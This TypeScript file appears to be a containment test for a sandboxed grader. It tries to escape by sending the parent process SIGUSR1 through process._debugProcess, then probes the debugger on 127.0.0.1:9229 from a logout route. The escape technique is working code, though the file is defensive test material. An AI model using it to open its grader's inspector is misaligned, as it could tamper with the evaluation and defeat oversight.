/**
 * Attack: Turns on the grader's inspector from outside: `process._debugProcess(ppid)` sends it SIGUSR1, which the permission model does not stop; the inspector would then listen on 127.0.0.1:9229 for any local connection.
 * Contained when the grader stays alive, nothing outside is read or written, and the verdict is honest.
 */
import type { LeafApp } from '@sandbox/app/types';

/** Runs one escape attempt and logs what came of it: "ATTEMPT <what>: GOT …" or "…: refused (<code>)". */
function attempt(what: string, run: () => unknown): void {
  try {
    console.log(`ATTEMPT ${what}: GOT ${String(run()).slice(0, 200)}`);
  } catch (error) {
    console.log(
      `ATTEMPT ${what}: refused (${(error as { code?: string }).code ?? (error as Error).message})`,
    );
  }
}

const debugProcess = Reflect.get(process, '_debugProcess') as (pid: number) => void;
attempt('_debugProcess(ppid)', () => debugProcess(process.ppid));

export default function logout(app: LeafApp): void {
  app.post('/logout', async (c) => {
    const found = await fetch('http://127.0.0.1:9229/json/list').then(
      async (r) => `GOT ${(await r.text()).slice(0, 200)}`,
      (error: unknown) =>
        `refused (${String((error as { cause?: { code?: string } }).cause?.code ?? error)})`,
    );
    console.log(`ATTEMPT inspector on 9229: ${found}`);
    return c.redirect('/', 303);
  });
}
